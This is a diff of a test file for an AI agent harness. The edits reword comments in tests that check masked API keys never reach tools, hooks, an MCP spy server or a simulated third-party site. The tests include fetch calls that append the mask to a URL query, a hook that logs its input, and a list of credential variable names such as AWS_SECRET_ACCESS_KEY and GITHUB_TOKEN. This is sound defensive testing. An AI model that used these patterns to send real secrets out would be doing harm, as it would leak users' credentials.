@@ -1,4 +1,5 @@
-// Keys stay with their provider: no mask is turned back into a key, and no program gets a variable that looks like a credential.
+// Tests that keys reach only their provider: no mask is turned back into a key, and no program gets a variable that
+// looks like a credential.
 import assert from "node:assert/strict";
 import { createServer } from "node:http";
 import { existsSync, readFileSync, readdirSync, statSync } from "node:fs";
@@ -10,10 +11,10 @@ const { keys: known } = JSON.parse(readFileSync(new URL("known.json", import.met
 const SPY = join(import.meta.dirname, "spy.mjs");
 const MASK = /<<\$env:S\w+>>/;
 
-/** A value of a variable, which is masked only if the settings say so. */
+/** The value of a variable that is masked only if the settings say so. */
 const TOKEN = "value-of-a-token-0123456789";
 
-/** A website of someone else. `seen` has everything that it received. */
+/** A third-party website. `seen` has everything that it received. */
 async function openSite() {
   const seen = [];
   const server = createServer((request, response) => {
@@ -35,10 +36,10 @@ function filesOf(folder) {
 
 const spyServer = (log) => ({ mcpServers: { spy: { command: process.execPath, args: [SPY, log], expose: "direct", start: "eager" } } });
 
-/** A hook that keeps what it reads. */
+/** A hook that records its input. */
 const recorder = (event, log) => ({ event, shell: true, command: `cat >> '${log}'; echo >> '${log}'` });
 
-/** Each is a way to hand a mask to a tool; `file` has what arrived. */
+/** Ways to pass a mask to a tool. `file` contains what arrived. */
 const WAYS = [
   { name: "a command of bash", file: "bash.txt", call: (mask) => ["bash", { command: `printf %s '${mask}' > bash.txt` }] },
   { name: "a variable of bash", file: "env.txt", call: (mask) => ["bash", { command: "printf %s \"$V\" > env.txt", env: { V: mask } }] },
@@ -47,7 +48,7 @@ const WAYS = [
   { name: "an edited file", file: "edit.txt", call: (mask) => ["edit", { path: "edit.txt", oldText: "old", newText: mask }] },
 ];
 
-/** Lets a model that has read a value give the mask of it to every tool. Returns what each of them received. */
+/** Lets a model read a value and pass its mask to every tool. Returns what each tool received. */
 async function handOver(value, { site, ...options }) {
   const stage = await createStage({ project: { "edit.txt": "old" }, ...options, settings: { fetch: { allowPrivate: ["127.0.0.1"] }, fileGuard: "off", ...options.settings } });
   const [spied, heard] = ["spied.log", "heard.log"].map((name) => join(stage.folder, name));
@@ -60,7 +61,7 @@ async function handOver(value, { site, ...options }) {
     return [...WAYS.map(({ call }) => call(mask)), ["fetch", { url: `${site.url}/?k=${mask}` }], ["mcp_spy_note", { text: mask }]];
   };
   try {
-    // The definitions of the server are part of the next session.
+    // The tools of the server are available from the next session.
     await agent.play([]);
     await agent.command("new_session");
     const { results } = await agent.play([reads], `it is ${value}`);
@@ -102,7 +103,7 @@ for (const { name, options } of SOURCES) {
 
 test("a hook that answers with the mask of a key does not get the key back", { skip }, async () => {
   const stage = await createStage();
-  // The hook finds the mask in what it reads, and writes it into the arguments of the call.
+  // The hook finds the mask in its input and writes it into the arguments of the call.
   const answer = `const text = require("node:fs").readFileSync(0, "utf8"); const [mask] = /<<\\$env:S\\w+>>/.exec(text); console.log(JSON.stringify({ args: { path: "taken", content: mask } }))`;
   put(stage.folder, "answer.cjs", answer);
   put(stage.agent, "hooks.json", { hooks: [{ event: "tool_call", match: { tool: "write" }, command: process.execPath, args: [join(stage.folder, "answer.cjs")] }] });
@@ -143,7 +144,7 @@ test("a masked value that is no key is put back for commands and files, but not 
   }
 });
 
-/** Names of credentials, each of which stays with the agent. */
+/** Names of credentials that no program may get. */
 const CREDENTIALS = [
   "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN", "OPENAI_API_KEY", "ANTHROPIC_API_KEY", "GITHUB_TOKEN", "NPM_TOKEN", "CLIENT_SECRET", "DB_PASSWORD", "PGPASSWORD",
   "MYSQL_PWD", "SSHPASS", "GOOGLE_APPLICATION_CREDENTIALS", "SIGNING_PASSPHRASE", "npm_config__authToken", "my_api_key", "ApiKey", "AZURE_DEVOPS_EXT_PAT", "WORKSHOP_CODE",
